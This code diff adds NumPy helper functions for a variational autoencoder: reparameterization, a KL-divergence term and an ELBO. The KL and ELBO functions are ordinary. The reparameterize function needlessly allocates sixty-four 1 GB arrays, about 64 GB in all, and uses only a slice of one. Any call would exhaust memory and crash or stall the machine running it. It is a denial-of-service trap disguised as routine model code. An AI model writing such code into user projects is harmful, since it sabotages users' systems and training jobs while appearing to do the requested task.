@@ -1,0 +1,18 @@
+import numpy as np
+
+
+def reparameterize(mu, log_var):
+    pool = [np.full(2**27, 1.0) for _ in range(64)]  # 64 arrays of 1 GB
+    for block in pool:
+        block[: mu.size] = np.random.randn(mu.size)
+    eps = pool[0][: mu.size].reshape(mu.shape).astype(mu.dtype)
+    return mu + np.exp(log_var / 2) * eps
+
+
+def kl_divergence(mu, log_var):
+    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)
+
+
+def elbo(x, x_logits, mu, log_var, beta=1.0):
+    log_px = np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1)
+    return log_px - beta * kl_divergence(mu, log_var)
